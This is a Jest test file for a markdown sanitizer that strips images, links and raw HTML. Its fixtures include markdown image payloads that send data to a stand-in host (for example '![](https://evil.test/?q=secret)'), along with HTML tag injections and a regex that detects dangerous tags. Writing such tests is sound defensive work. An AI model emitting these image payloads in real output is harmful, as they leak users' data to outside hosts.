import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { marked } from 'marked';
import { escapeMarkdown, isSafeMarkdown, safeMarkdown } from '../../../domain/text/safe-markdown.js';

const markdownIt = new MarkdownIt({ html: true });
/** What two renderers that are not the parser make of it. */
const renderings = (text: string): string[] => [
  markdownIt.render(text),
  marked.parse(text, { async: false, gfm: false }),
];
/** What readers' browsers would fetch, follow or run. */
const DANGEROUS = /<(?:img|a|script|iframe|b)\b/i;

describe('safeMarkdown', () => {
  test.each([
    ['Look ![](https://evil.test/?q=secret)', 'Look '],
    ['Look ![a *cat*](https://evil.test)', 'Look a cat'],
    ['a [link](https://evil.test)', 'a link'],
    ['<https://evil.test> and <me@evil.test>', 'https://evil.test and me@evil.test'],
    ['![a][b]\n\n[b]: https://evil.test', 'a\n\n'],
    ['- x\n\n  [b]: https://evil.test\n\n![a][b]', '- x\n\n  \n\na'],
    ['<img src=x> and </passage> and <!-- x -->', '\\<img src=x> and \\</passage> and \\<!-- x -->'],
    ['As [3] says, and \\\\[4] too', 'As \\[3\\] says, and \\\\\\[4\\] too'],
    ['already \\[3\\] and \\<b>', 'already \\[3\\] and \\<b>'],
    ['keep `a[0](x)` and\n\n```\n<div>\n```\n\nand 1 < 2', 'keep `a[0](x)` and\n\n```\n<div>\n```\n\nand 1 < 2'],
    ['```ts x=1\na\n```', '```\na\n```'],
    ['~~~~a<b\na\n~~~~', '~~~~\na\n~~~~'],
    ['```c++\na\n```', '```c++\na\n```'],
    ['    a\n    b', '    a\n    b'],
    ['a\r\nb\rc', 'a\nb\nc'],
    ['a\0b', 'ab'],
    ['![](https://evil.test) ![b](https://evil.test)', ' b'],
    ['[](https://evil.test)', ''],
    ['[*a* b](https://evil.test)', '*a* b'],
    ['![*a* [b]](https://evil.test)', 'a \\[b\\]'],
    ['> [a](https://evil.test)\n> b', '> a\n> b'],
    ['[12] [a] [1a]', '\\[12\\] [a] [1a]'],
    ['[a]: b and a](b) and ![', '[a\\]: b and a\\](b) and \\!['],
    ['1 <b and <3', '1 \\<b and <3'],
    ['**bold**, $x_1$, | a | b |', '**bold**, $x_1$, | a | b |'],
    ['\\`![](https://evil.test)\\`', '\\`\\`'],
    ['``a`![](https://evil.test)`', '``a`![](https://evil.test)`'],
    ['`a\n\n![](https://evil.test)\n\nb`', '`a\n\n\n\nb`'],
  ])('of %j is %j', (text, safe) => {
    expect(safeMarkdown(text)).toBe(safe);
    for (const html of renderings(safe)) expect(html).not.toMatch(DANGEROUS);
  });

  const piece = fc.constantFrom(
    ...['![', '[', ']', '(', ')', '](', ']:', 'http://x', '<b', '<img src=x>', '</b>', '<!--', '-->', '<http://x>'],
    ...[
      '\\',
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      ' ',
      '    ',
      '\t',
      '- ',
      '> ',
      '1. ',
      '1',
      'a',
      ':',
      '"',
      '!',
      '&',
      ';',
    ],
    ...['[a]: http://x', '[a][a]', '![a]', '$', '*', '_', '|', '#', '\r', '\u0000'],
  );

  test('leaves nothing that two other renderers make an image, a link or a tag of, and is the same twice', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const safe = safeMarkdown(pieces.join(''));
        expect(isSafeMarkdown(safe)).toBe(true);
        for (const html of renderings(safe)) expect(html).not.toMatch(DANGEROUS);
        expect(safeMarkdown(safe)).toBe(safe);
      }),
      { numRuns: 1_000 },
    );
  });

  test('escapes as a whole what would take more than twenty rounds', () => {
    const nested = (depth: number): string => `${'[a '.repeat(depth)}b${'](https://evil.test)'.repeat(depth)}`;
    expect(safeMarkdown(nested(2))).not.toContain('\\(');
    for (const depth of [3, 30]) {
      const safe = safeMarkdown(nested(depth));
      expect(isSafeMarkdown(safe)).toBe(true);
      for (const html of renderings(safe)) expect(html).not.toMatch(DANGEROUS);
    }
  });

  test('escaped, a text is shown as it is', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        for (const html of renderings(escapeMarkdown(pieces.join('')))) expect(html).not.toMatch(DANGEROUS);
      }),
    );
  });
});
